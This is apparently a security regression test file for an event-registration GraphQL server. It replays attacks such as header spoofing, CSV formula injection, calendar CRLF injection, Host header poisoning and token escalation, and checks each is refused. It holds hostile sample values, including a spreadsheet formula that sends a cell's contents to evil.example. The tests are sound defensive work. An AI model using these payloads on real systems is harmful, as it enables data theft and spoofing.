import { randomUUID } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { request as httpRequest } from 'node:http';
import { print } from 'graphql';
import ICAL from 'ical.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ImportEventDocument, RegisterForEventDocument } from '../src/client/operations.js';
import { futureEvent } from './support/future-event.js';
import { startServer, type ServerProcess } from './support/server-process.js';

/**
 * Attacks an outsider could make, each against a running production server (as its own process,
 * on this file's database), reproduced as they were found and answered as they must be now.
 */
const adminSecret = `attack-admin-${randomUUID()}`;
const metricsToken = `attack-metrics-${randomUUID()}`;
let server: ServerProcess;
/** The server reached through this machine's network address: a client that is not loopback. */
let remoteUrl: string;

beforeAll(async () => {
  server = await startServer({ NODE_ENV: 'production', ADMIN_SECRET: adminSecret, METRICS_TOKEN: metricsToken, TRUST_PROXY: '1', REGISTRATIONS_PER_ADDRESS: '5', LIVE_UPDATES_PER_CLIENT: '3', LIVE_UPDATES_MAX: '5', LIVE_UPDATE_SECONDS: '4' });
  remoteUrl = server.url.replace('127.0.0.1', process.env.ATTACK_REMOTE_HOST ?? '192.0.2.2');
}, 120_000);
afterAll(async () => {
  await server?.stop();
});

async function graphql(body: { query: string; variables?: unknown }, { base = server.url, headers = {} }: { base?: string; headers?: Record<string, string> } = {}) {
  const response = await fetch(`${base}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body: JSON.stringify(body) });
  return { status: response.status, json: (await response.json()) as any };
}

const asAdmin = { authorization: `Bearer ${adminSecret}` };

/** A future event with limited seats, imported over the API; its session ids. */
async function importFutureEvent(slug: string, seats: { roomSeats?: number; remoteSeats?: number } = {}): Promise<string[]> {
  const imported = await graphql({ query: print(ImportEventDocument), variables: { input: { file: futureEvent(slug, seats) } } }, { headers: asAdmin });
  expect(imported.json.data.importEvent.__typename).toBe('ImportEventPayload');
  const read = await graphql({ query: `{ event(slug: "${slug}") { sessions { edges { node { id } } } } }` });
  return read.json.data.event.sessions.edges.map((edge: { node: { id: string } }) => edge.node.id);
}

describe('per-email and per-address registration limits (item 11)', () => {
  let slug: string;
  let sessionId: string;
  beforeAll(async () => {
    slug = `limits-${randomUUID().slice(0, 8)}`;
    sessionId = (await importFutureEvent(slug))[0]!;
  });
  const register = (email: string, options: { base?: string; headers?: Record<string, string> } = {}) =>
    graphql({ query: print(RegisterForEventDocument), variables: { input: { eventSlug: slug, name: 'Limit', email, attendanceMode: 'REMOTE', sessionIds: [sessionId], consent: true } } }, options);

  it('calls made with someone else\'s email from elsewhere never lock its owner out', async () => {
    const victim = `victim-${randomUUID().slice(0, 8)}@example.org`;
    for (let index = 0; index < 6; index += 1) {
      // Each from its own address (as our proxy reports it), so no address limit applies.
      await register(victim, { base: remoteUrl, headers: { 'x-forwarded-for': `198.51.100.${index + 1}` } });
    }
    const owner = await register(victim);
    expect(owner.status).toBe(200);
    expect(owner.json.data.registerForEvent.__typename).toBe('RegisterForEventPayload');
  });

  it('X-Forwarded-For: 127.0.0.1 from a direct client does not take it into the loopback exemption', async () => {
    const statuses: number[] = [];
    for (let index = 0; index < 6; index += 1) {
      statuses.push((await register(`xff-${index}-${randomUUID().slice(0, 8)}@example.org`, { base: remoteUrl, headers: { 'x-forwarded-for': '127.0.0.1' } })).status);
    }
    expect(statuses).toEqual([200, 200, 200, 200, 200, 429]);
  });
});

describe('metrics (item 1)', () => {
  const scrape = () => fetch(`${server.url}/metrics`, { headers: { authorization: `Bearer ${metricsToken}` } }).then((response) => response.text());

  it('are not public', async () => {
    const anonymous = await fetch(`${server.url}/metrics`);
    expect(anonymous.status).toBe(401);
    expect(await anonymous.text()).not.toMatch(/graphql_|process_/);
  });

  it('do not grow with operation names a client makes up, and still name our own operations', async () => {
    // Warm up every series an anonymous read and a refusal make.
    await graphql({ query: 'query Warm { __typename }', operationName: 'Warm' } as never);
    const before = (await scrape()).length;
    for (let batch = 0; batch < 10; batch += 1) {
      await Promise.all(Array.from({ length: 50 }, (_, index) => graphql({ query: `query Flood${batch}x${index} { __typename }` })));
    }
    const after = await scrape();
    expect(after).not.toMatch(/Flood\d/);
    expect(after.length - before).toBeLessThan(5_000);
    await graphql({ query: 'query EventAgenda { __typename }' });
    expect(await scrape()).toMatch(/operationName="EventAgenda"/);
  });
});

/** The server's resident memory, from /proc: the server is the node process the test started. */
async function serverRss(): Promise<number> {
  const status = await readFile(`/proc/${server.child.pid}/status`, 'utf8');
  return Number(/^VmRSS:\s+(\d+) kB/m.exec(status)![1]) * 1024;
}

/** Runs `count` requests made by `request(index)`, `parallel` at a time. */
async function flood(count: number, parallel: number, request: (index: number) => Promise<unknown>): Promise<void> {
  let next = 0;
  await Promise.all(Array.from({ length: parallel }, async () => {
    while (next < count) await request(next++);
  }));
}

/** `text` with its letters' case flipped by the bits of `variant`. */
function caseVariant(text: string, variant: number): string {
  let bit = 0;
  return text.replace(/[a-z]/gi, (letter) => ((variant >> bit++) & 1 ? (letter === letter.toLowerCase() ? letter.toUpperCase() : letter.toLowerCase()) : letter));
}

describe('caches keyed by what clients send stay bounded (item 2)', () => {
  it('spellings of one zone on the embed page are one zone', async () => {
    const page = await fetch(`${server.url}/embed/ohchr-remedy-tech-2021?time-zone=aSIA/tOKYO`);
    expect(page.status).toBe(200);
    expect(await page.text()).toContain('Asia/Tokyo');
    const round = (offset: number) =>
      flood(2_000, 8, (index) => fetch(`${server.url}/embed/ohchr-remedy-tech-2021?time-zone=${caseVariant('America/Argentina/ComodRivadavia', offset + index)}`).then((response) => response.arrayBuffer()));
    // The first round grows the heap to what serving needs; the second sends 2,000 more spellings.
    await round(0);
    const before = await serverRss();
    await round(2_000);
    // Before canonical names, each spelling kept a formatter: 2,000 of them took 160 MB.
    expect((await serverRss()) - before).toBeLessThan(90 * 1024 * 1024);
  });

  it('locale tags in Language.name(locale:) do not each keep a formatter', async () => {
    const names = Array.from({ length: 100 }, (_, index) => `n${index}: name(locale: $l${index})`).join(' ');
    const query = `query (${Array.from({ length: 100 }, (_, index) => `$l${index}: Locale!`).join(', ')}) { event(slug: "ohchr-remedy-tech-2021") { interpretationLanguages { ${names} } } }`;
    const round = (offset: number) =>
      flood(100, 4, async (request) => {
        const variables = Object.fromEntries(Array.from({ length: 100 }, (_, index) => [`l${index}`, `en-x-${(offset + request * 100 + index).toString(36).padStart(5, 'a')}`]));
        // An Authorization header keeps the answers out of the response cache, whose growth would hide this.
        const answer = await graphql({ query, variables }, { headers: { authorization: 'Bearer not-a-token' } });
        expect(answer.json.errors).toBeUndefined();
      });
    // The first rounds grow the heap to what serving needs; the last two add 20,000 new tags,
    // which took 28 MB when each kept its formatter (on a quiet machine; the bound leaves room for
    // a busy one's lazier collections).
    await round(0);
    await round(10_000);
    const before = await serverRss();
    await round(20_000);
    await round(30_000);
    expect((await serverRss()) - before).toBeLessThan(20 * 1024 * 1024);
  });
});

describe('what an event\'s writers and registrants write stays text', () => {
  const slug = `inject-${randomUUID().slice(0, 8)}`;
  const injected = 'Title\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:evil\r\nSUMMARY:Injected\r\nEND:VEVENT\r\nX-EVIL:1';
  let sessionId: string;
  beforeAll(async () => {
    const file = futureEvent(slug);
    file.event.title = injected;
    (file.event as { summary?: string }).summary = `Summary\nBEGIN:VALARM\nACTION:DISPLAY\nEND:VALARM`;
    const imported = await graphql({ query: print(ImportEventDocument), variables: { input: { file } } }, { headers: asAdmin });
    expect(imported.json.data.importEvent.__typename).toBe('ImportEventPayload');
    const read = await graphql({ query: `{ event(slug: "${slug}") { sessions { edges { node { id } } } } }` });
    sessionId = read.json.data.event.sessions.edges[0].node.id;
  });

  it('calendar feeds escape the calendar\'s name and description (item 5)', async () => {
    const text = await (await fetch(`${server.url}/events/${slug}.ics`)).text();
    expect(text).not.toMatch(/^(METHOD|X-EVIL|BEGIN:VALARM|UID:evil)/m);
    const calendar = new ICAL.Component(ICAL.parse(text));
    expect(calendar.getAllSubcomponents('vevent')).toHaveLength(2);
    expect(calendar.getFirstPropertyValue('method')).toBeNull();
    expect(text.replaceAll('\r\n ', '')).toContain(`X-WR-CALNAME:${injected.replaceAll('\r\n', '\\n')}\r\n`);
  });

  it('the registrations CSV neutralises formulas (item 4)', async () => {
    const formula = '=HYPERLINK("https://evil.example/?leak="&C2,"Click")';
    const registered = await graphql({
      query: print(RegisterForEventDocument),
      variables: { input: { eventSlug: slug, name: formula, organization: '@SUM(1+1)', email: `formula-${randomUUID().slice(0, 8)}@example.org`, attendanceMode: 'REMOTE', sessionIds: [sessionId], consent: true } },
    });
    expect(registered.json.data.registerForEvent.__typename).toBe('RegisterForEventPayload');
    const csv = await (await fetch(`${server.url}/admin/events/${slug}/registrations.csv`, { headers: asAdmin })).text();
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example`);
    expect(csv).toContain(`"'@SUM(1+1)"`);
    // No cell starts with what a spreadsheet reads as a formula.
    expect(csv).not.toMatch(/(^|,)"?[=+\-@\t\r]/m);
  });
});

describe('admin tokens (item 10)', () => {
  const create = (scopes: string[], authorization: string) =>
    graphql(
      { query: 'mutation ($input: CreateAdminTokenInput!) { createAdminToken(input: $input) { __typename ... on IssuedAdminToken { token } ... on Error { code } } }', variables: { input: { name: 'attack', scopes } } },
      { headers: { authorization } },
    );

  it('a token never grants more than its creator holds', async () => {
    const manager = await create(['MANAGE_TOKENS'], `Bearer ${adminSecret}`);
    const token = manager.json.data.createAdminToken.token as string;
    const escalated = await create(['MANAGE_TOKENS', 'READ_REGISTRATIONS', 'WRITE_EVENTS'], `Bearer ${token}`);
    expect(escalated.json.data.createAdminToken).toEqual({ __typename: 'ForbiddenError', code: 'FORBIDDEN' });
    const same = await create(['MANAGE_TOKENS'], `Bearer ${token}`);
    expect(same.json.data.createAdminToken.__typename).toBe('IssuedAdminToken');
  });
});

describe('names stay hidden in production (item 9)', () => {
  it('no error suggests a field, an enum value or an input field', async () => {
    const answers = await Promise.all([
      graphql({ query: '{ evnt(slug: "x") { title } }' }),
      graphql({ query: 'mutation { createAdminToken(input: { name: "x", scopes: [MANAGE_TOKEN] }) { __typename } }' }),
      graphql({ query: 'mutation ($input: CreateAdminTokenInput!) { createAdminToken(input: $input) { __typename } }', variables: { input: { name: 'x', scopes: ['MANAGE_TOKEN'] } } }),
      graphql({ query: print(RegisterForEventDocument), variables: { input: { eventSlug: 'x', name: 'x', emial: 'a@example.org', attendanceMode: 'REMOTE', sessionIds: [], consent: true } } }),
      graphql({ query: '{ event(slg: "x") { title } }' }),
    ]);
    for (const answer of answers) {
      expect(answer.json.errors?.length).toBeGreaterThan(0);
      expect(JSON.stringify(answer.json)).not.toMatch(/Did you mean|MANAGE_TOKENS|"email"|"slug"|event\b.*\?/i);
    }
  });
});

/** A GET with headers fetch would not send as given (Host), over a plain socket. */
function rawGet(path: string, headers: Record<string, string>): Promise<{ status: number; headers: Record<string, unknown>; body: string }> {
  const { hostname, port } = new URL(server.url);
  return new Promise((resolve, reject) => {
    const request = httpRequest({ hostname, port, path, headers, setHost: false }, (response) => {
      let body = '';
      response.setEncoding('utf8');
      response.on('data', (chunk: string) => (body += chunk));
      response.on('end', () => resolve({ status: response.statusCode!, headers: response.headers, body }));
    });
    request.on('error', reject);
    request.end();
  });
}

describe('the Host header (item 3)', () => {
  it('does not reach the links a cached answer gives every reader', async () => {
    const path = `/graphql?query=${encodeURIComponent('{ event(slug: "ohchr-remedy-tech-2021") { calendar { icsUrl webcalUrl } } }')}`;
    const poisoned = await rawGet(path, { host: 'evil.example' });
    expect(poisoned.body).not.toContain('evil.example');
    const reader = await rawGet(path, { host: new URL(server.url).host });
    expect(reader.status).toBe(200);
    const links = JSON.parse(reader.body).data.event.calendar;
    expect(links.webcalUrl).toBe(`webcal://localhost:${new URL(server.url).port}/events/ohchr-remedy-tech-2021.ics`);
  });
});

/** What no answer may show: a stack frame or a path on the server. */
const leak = /\n\s+at |node_modules|\/src\/|\/work\/|\.ts:\d|\.js:\d/;

describe('malformed requests answer 4xx, never 500 or a stack trace (item 8)', () => {
  it('a malformed Host header', async () => {
    for (const host of ['999.999.999.999', '[::::', 'a b', 'exa mple.org:99999']) {
      const answer = await rawGet(`/graphql?query=${encodeURIComponent('{ __typename }')}`, { host });
      expect(answer.status, host).toBe(400);
      expect(answer.body).not.toMatch(leak);
    }
  });

  it('a path that does not decode', async () => {
    const answer = await fetch(`${server.url}/admin/events/%ff/registrations.csv`, { headers: asAdmin });
    expect(answer.status).toBeLessThan(500);
    expect(await answer.text()).not.toMatch(leak);
  });

  it('variables nested thousands deep, and extensions that are not JSON', async () => {
    const nested = `${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`;
    const deep = await fetch(`${server.url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: `{"query":"{ __typename }","variables":{"deep":${nested}}}` });
    expect(deep.status).toBe(400);
    expect(await deep.text()).not.toMatch(leak);
    for (const search of ['extensions={', 'variables={', 'extensions=[]', 'variables=1']) {
      const answer = await fetch(`${server.url}/graphql?query=${encodeURIComponent('{ __typename }')}&${search}`);
      expect(answer.status, search).toBe(400);
      expect(await answer.text()).not.toMatch(leak);
    }
  });
});

describe('strings that reach PostgreSQL are checked (items 8 and 12)', () => {
  let slug: string;
  let sessionId: string;
  beforeAll(async () => {
    slug = `text-${randomUUID().slice(0, 8)}`;
    sessionId = (await importFutureEvent(slug))[0]!;
  });
  const register = (input: Record<string, unknown>) =>
    graphql({ query: print(RegisterForEventDocument), variables: { input: { eventSlug: slug, name: 'Ana', email: `text-${randomUUID().slice(0, 8)}@example.org`, attendanceMode: 'REMOTE', sessionIds: [sessionId], consent: true, ...input } } });

  it('a NUL character is a ValidationError naming the field, in a query or a mutation', async () => {
    const query = await graphql({ query: 'query ($slug: String!) { event(slug: $slug) { title } }', variables: { slug: 'a\u0000b' } });
    expect(query.json.errors[0].extensions.code).toBe('BAD_USER_INPUT');
    expect(query.json.errors[0].message).toMatch(/^slug: .*NUL/);
    const mutation = await register({ name: 'A\u0000na' });
    expect(mutation.json.data.registerForEvent).toMatchObject({ __typename: 'ValidationError', fields: [{ path: 'input.name', message: expect.stringMatching(/NUL/) }] });
  });

  it('a 95 KB name is refused, and so is an overlong string in an admin input or an import file', async () => {
    const long = await register({ name: 'x'.repeat(95_000) });
    expect(long.json.data.registerForEvent).toMatchObject({ __typename: 'ValidationError', fields: [{ path: 'input.name', message: 'must be at most 200 characters' }] });
    const file = futureEvent(`text-import-${randomUUID().slice(0, 8)}`);
    file.event.sessions![1]!.title = 'y'.repeat(1_001);
    const imported = await graphql({ query: print(ImportEventDocument), variables: { input: { file } } }, { headers: asAdmin });
    expect(imported.json.data.importEvent).toMatchObject({ __typename: 'ValidationError', fields: [{ path: 'input.file.event.sessions[1].title' }] });
    const token = await graphql({ query: 'mutation { createAdminToken(input: { name: "a\\u0000", scopes: [MANAGE_TOKENS] }) { __typename ... on ValidationError { fields { path } } } }' }, { headers: asAdmin });
    expect(token.json.data.createAdminToken).toEqual({ __typename: 'ValidationError', fields: [{ path: 'input.name' }] });
  });
});

describe('importEvent and the waitlist (item 6)', () => {
  it('more seats in an import go to the first ones waiting, as updateSession gives them', async () => {
    const slug = `import-seats-${randomUUID().slice(0, 8)}`;
    const [sessionId] = await importFutureEvent(slug, { remoteSeats: 1 });
    const register = (name: string) =>
      graphql({ query: print(RegisterForEventDocument), variables: { input: { eventSlug: slug, name, email: `${name}-${randomUUID().slice(0, 8)}@example.org`, attendanceMode: 'REMOTE', sessionIds: [sessionId], consent: true } } });
    const statusOf = (answer: Awaited<ReturnType<typeof register>>) => answer.json.data.registerForEvent.registration.sessions[0].status;
    expect(statusOf(await register('first'))).toBe('CONFIRMED');
    const second = await register('second');
    expect(statusOf(second)).toBe('WAITLISTED');
    // The same event with no seat limit: the one waiting is confirmed, and a newcomer too.
    const imported = await graphql({ query: print(ImportEventDocument), variables: { input: { file: futureEvent(slug) } } }, { headers: asAdmin });
    expect(imported.json.data.importEvent.__typename).toBe('ImportEventPayload');
    const mine = await graphql({ query: 'query ($token: String!) { registration(manageToken: $token) { sessions { status } } }', variables: { token: second.json.data.registerForEvent.manageToken } });
    expect(mine.json.data.registration.sessions[0].status).toBe('CONFIRMED');
    expect(statusOf(await register('third'))).toBe('CONFIRMED');
  });
});

describe('live updates (item 7)', () => {
  const subscription = (slug: string) => `/graphql?query=${encodeURIComponent(`subscription { agendaChanged(eventSlug: "${slug}") { revision } }`)}`;
  const streams: AbortController[] = [];
  afterAll(() => streams.forEach((stream) => stream.abort()));

  /** Opens a stream and reads until its first event or a second has passed: what it said, and whether it is still open. */
  async function openStream(base: string, slug = 'ohchr-remedy-tech-2021', headers: Record<string, string> = {}) {
    const controller = new AbortController();
    streams.push(controller);
    const response = await fetch(`${base}${subscription(slug)}`, { headers: { accept: 'text/event-stream', ...headers }, signal: controller.signal });
    const reader = response.body!.getReader();
    const firstEvent = async (): Promise<string> => {
      for (;;) {
        const { value, done } = await reader.read();
        if (done) return 'ended';
        const text = new TextDecoder().decode(value);
        // Keep-alive comments (`:`) say nothing.
        if (!/^(:[^\n]*\n+)+$/.test(text)) return text;
      }
    };
    const first = await Promise.race([firstEvent(), new Promise<string>((resolve) => setTimeout(() => resolve('open'), 1_000))]);
    return { status: response.status, first, reader, close: () => controller.abort() };
  }

  it('are refused for an event that is not there', async () => {
    const stream = await openStream(server.url, 'no-such-event');
    expect(stream.first).toContain('NOT_FOUND');
    stream.close();
  });

  it('are limited per client and in all, and each ends after LIVE_UPDATE_SECONDS', async () => {
    const remote = { 'x-forwarded-for': '198.51.100.77' };
    const mine = await Promise.all([1, 2, 3].map(() => openStream(remoteUrl, undefined, remote)));
    expect(mine.map((stream) => stream.first)).toEqual(['open', 'open', 'open']);
    const fourth = await openStream(remoteUrl, undefined, remote);
    expect(fourth.first).toContain('RATE_LIMITED');
    // Another client still gets its own, up to the limit in all (5).
    const others = await Promise.all([1, 2].map(() => openStream(server.url)));
    expect(others.map((stream) => stream.first)).toEqual(['open', 'open']);
    expect((await openStream(server.url)).first).toContain('RATE_LIMITED');
    // Closing one frees its place.
    mine[0]!.close();
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect((await openStream(remoteUrl, undefined, remote)).first).toBe('open');
    // And every stream ends by itself: the last opened within 4 s.
    const ended = await Promise.race([
      (async () => {
        for (;;) if ((await others[0]!.reader.read()).done) return 'ended';
      })(),
      new Promise((resolve) => setTimeout(() => resolve('still open'), 6_000)),
    ]);
    expect(ended).toBe('ended');
  });
});
